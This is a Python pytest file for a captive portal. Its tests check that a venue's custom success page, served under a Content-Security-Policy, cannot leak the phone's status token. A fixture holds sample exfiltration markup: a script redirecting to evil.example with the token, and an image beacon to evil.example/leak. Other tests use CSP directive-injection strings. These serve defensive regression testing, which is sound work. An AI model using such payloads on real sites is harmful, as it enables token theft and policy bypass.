"""A venue's success page sees the phone's status token: its CSP must not let it send the token away.

Before the fix a venue success page with ``<script>top.location="https://evil.example/"+…</script>``
published, and the served ``sandbox allow-scripts … allow-top-navigation`` let it redirect the phone
(status token in the URL); ``<img src="https://evil.example/leak?s=…">`` loaded too.
"""
from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from flask import Flask

from portal.web import services
from portal.web.phone.venue_csp import venue_page_csp
from tests.e2e.stack import Stack, phone, running_stack, stack_app

EVIL_SUCCESS = """<!doctype html><p id="success">ok</p>
<script>top.location="https://evil.example/"+"{{ status_url }}"</script>
<img src="https://evil.example/leak?s={{ status_url|urlencode }}">
<link rel="stylesheet" href="https://evil.example/x.css"><a id="status" href="{{ status_url }}">s</a>"""


@pytest.fixture
def stack(redis_client: Any, redis_url: str, data_dir: Path) -> Iterator[Stack]:
    with running_stack(redis_client, redis_url, data_dir) as s:
        yield s


@pytest.fixture
def app(stack: Stack) -> Flask:
    return stack_app(stack)


def directives(policy: str) -> dict[str, list[str]]:
    out: dict[str, list[str]] = {}
    for part in policy.split(";"):
        words = part.split()
        if words:
            out[words[0]] = words[1:]
    return out


def assert_contained(policy: str, allowed_form_hosts: set[str]) -> None:
    d = directives(policy)
    assert "allow-top-navigation" not in d["sandbox"] and "allow-scripts" not in d["sandbox"]
    assert d["script-src"] == ["'none'"] and d["default-src"] == ["'none'"]
    for name in ("img-src", "font-src", "media-src", "style-src", "connect-src"):
        assert set(d[name]) <= {"'self'", "data:", "'unsafe-inline'"}, name
    assert set(d["form-action"]) <= {"'self'", *allowed_form_hosts}
    assert d["frame-ancestors"] == ["'none'"]


def test_served_success_page_of_a_venue_cannot_leak_the_status_token(app: Flask, stack: Stack) -> None:
    svc = services(app)
    venue = stack.venues.get("library")
    svc.pages.publish(venue, "success", "mallory", source=EVIL_SUCCESS)
    client = app.test_client()
    html = client.get("/portal?" + stack.query(1)).get_data(as_text=True)
    c = re.search(r'name="c" value="([^"]*)"', html).group(1)
    client.post("/portal/code", data={"c": c, "phone": phone(1)})
    resp = client.post("/portal/login", data={"c": c, "phone": phone(1), "code": stack.last_code(phone(1))})
    assert resp.status_code == 200 and 'id="success"' in resp.get_data(as_text=True)   # the venue's page
    policy = resp.headers["Content-Security-Policy"]
    assert_contained(policy, {"library.example.cn", "*.operator.example.cn"})


def test_policy_never_carries_a_hostile_allow_list_entry() -> None:
    policy = venue_page_csp(["ok.example.cn", "x; script-src *", "evil.example 'unsafe-inline'", ".sub.cn"])
    assert directives(policy)["form-action"] == ["'self'", "ok.example.cn", "*.sub.cn"]
    assert_contained(policy, {"ok.example.cn", "*.sub.cn"})


def test_only_our_unchanged_shipped_scripts_are_allowed_by_hash() -> None:
    import base64
    import hashlib

    from ad_pages.loader import shipped_scripts
    from portal.venues.pages import default_source
    from portal.web.phone.venue_csp import shipped_script_sources

    scripts = shipped_scripts()
    assert len(scripts) == 3           # login resend, ad and success countdowns
    for body, source in scripts.items():
        assert "{{" not in body and source == \
            "'sha256-" + base64.b64encode(hashlib.sha256(body.encode()).digest()).decode() + "'"
    login = default_source("login")
    [ours] = shipped_script_sources(login)
    assert venue_page_csp(script_hashes=[ours]).count("sha256-") == 1
    assert "allow-scripts" in venue_page_csp(script_hashes=[ours])
    assert shipped_script_sources(login.replace("1000", "999")) == ()
    assert shipped_script_sources("<script>alert(1)</script>") == ()
    # A source that is not a well-formed hash never reaches the policy (no injected directive).
    policy = venue_page_csp(script_hashes=["'sha256-x'; script-src *", "'unsafe-inline'"])
    assert directives(policy)["script-src"] == ["'none'"] and "allow-scripts" not in policy
